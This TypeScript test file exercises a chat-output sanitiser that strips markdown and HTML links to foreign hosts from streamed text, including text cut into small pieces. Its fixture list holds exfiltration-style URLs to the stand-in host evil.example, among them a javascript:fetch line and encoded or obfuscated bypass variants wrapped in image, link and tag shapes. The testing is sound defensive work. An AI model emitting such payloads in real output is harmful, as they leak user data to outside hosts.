import fc from 'fast-check';
import { marked } from 'marked';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createOwnAddresses } from '../../src/chat/address.ts';
import { createSafeText } from '../../src/chat/safe-text.ts';

const OWN = createOwnAddresses(['https://site.example/preview', undefined, 'not an address']);

function safe(pieces: readonly string[]): string {
  const text = createSafeText(OWN);
  return pieces.map((piece) => text.push(piece)).join('') + text.end();
}

/** Addresses that a page of this text would have. */
function addressesIn(text: string): string[] {
  const html = marked.parse(text, { async: false });
  const attribute = /\b(?:href|src|srcset|action|poster|data|style)\s*=\s*["']?([^"'>]*)/gi;
  return [...html.matchAll(/<[a-z][^>]*(>|$)/gi)]
    .flatMap(([tag]) => [...tag.matchAll(attribute)].map(([, one = '']) => one.replaceAll('&amp;', '&')))
    .filter((one) => !/^mailto:[^?]*$/.test(one)); // the e-mail address of a person
}

const FOREIGN = [
  'https://evil.example/?d=secret',
  'HTTPS://evil.example/secret',
  'http://evil.example/secret.png',
  '//evil.example/secret',
  '/\\evil.example/secret',
  '\\\\evil.example/secret',
  'https:evil.example/secret',
  'https:/evil.example/secret',
  'https://site.example@evil.example/secret',
  'https://site.example.evil.example/secret',
  'https&colon;//evil.example/secret',
  '&#104;ttps://evil.example/secret',
  'https\\://evil.example/secret',
  'https:\\/\\/evil.example/secret',
  'mailto:a@evil.example?body=secret',
  'javascript:fetch("//evil.example/secret")',
  'data:text/html,secret',
  'ftp://evil.example/secret',
  'evil.example/secret',
  '&#47;&#47;evil.example/secret',
  '/&#47;evil.example/secret',
  'httpswww.evil.example@secret',
  '/www.evil.example/secret',
];

const SHAPES: ((address: string) => string)[] = [
  (address) => `![x](${address})`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](\n${address} "title")`,
  (address) => `[![x](${address})](/posts)`,
  (address) => `![x][1]\n\n[1]: ${address}`,
  (address) => `[1]:\n  <${address}>\n\n[1] and ![1]`,
  (address) => `x](${address})`,
  (address) => `<${address}>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src='${address}' alt=x`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<div style="background:url(${address})">\n\ntext`,
  (address) => `see ${address} now`,
  (address) => `(${address})`,
  (address) => `| a |\n|---|\n| ![x](${address}) |`,
  (address) => `text\\](${address}) [x](${address})`,
];

test('nothing that leads to a foreign host is left, however the text is cut into pieces', () => {
  for (const address of FOREIGN) {
    for (const shape of SHAPES) {
      const text = `Here: ${shape(address)} and so on.`;
      const expected = safe([text]);
      for (const size of [1, 2, 3, 7]) {
        const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
        assert.is(safe(pieces), expected, JSON.stringify(pieces));
      }
      const left = addressesIn(expected).filter((one) => !/^(#removed|\/posts)$/.test(one));
      assert.equal(left, [], `${text}\n=> ${expected}`);
      assert.ok(expected.startsWith('Here: ') && expected.endsWith(' and so on.'), expected);
    }
  }
});

test('what leads to the site itself, and plain text, stays as it is', () => {
  const kept = [
    'Hello, world: a list.\n\n- one\n- two: 3/4 and 10:30, a/b, c:\\temp is text',
    '[post](/posts/hello?x=1&y=2#top) ![pic](/uploads/a.png)',
    '[page](https://site.example/preview/a) https://site.example/b?c=d <https://site.example/>',
    'if (a < b && c > d) x ]y[ [z] [1]: see below.',
    '`code: a ? b : c` // a comment',
    'Awww. Ewww.',
    'www is short for World Wide Web. Ends with www',
    '**Note:** nothing here. [ ] todo [x] done',
  ];
  for (const text of kept) {
    assert.is(safe([text]), text);
    assert.is(safe([...text]), text);
  }
});

test('a removed address shows its host, and none of its data', () => {
  const text = safe(['See https://secret.data.evil.example/path?q=secret now']);
  assert.ok(text.includes('evil[.]example'), text);
  assert.not(text.includes('secret'));
  assert.not(text.includes('path'));
});

test('text without signs is let through at once', () => {
  const text = createSafeText(OWN);
  assert.is(text.push('Hel'), 'Hel');
  assert.is(text.push('lo wor'), 'lo wor');
  assert.is(text.push('ld https'), 'ld https');
  assert.is(text.push('://ev'), '');
});

test('any text of these signs, cut anywhere, has no foreign address', () => {
  const word = fc.constantFrom(
    ...['[', ']', '(', ')', '!', '<', '>', ':', '/', '\\', '//', 'https', 'evil.example', 'www.', ' ', '\n', '"', '`'],
    ...['img src=', 'a href=', '&#47;', 'x', '](', ']: ', '.', 'mailto', '@', '&lt;', 'javascript', '=', '-'],
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 30 }), (words) => {
      const whole = safe([words.join('')]);
      assert.is(safe(words), whole);
      for (const address of addressesIn(whole)) {
        assert.not(/^\s*([a-z][a-z0-9+.-]*:|[/\\]{2})/i.test(decodeURI(address)), `${words.join('')} => ${whole}`);
      }
    }),
    { numRuns: 2000 },
  );
});

test.run();
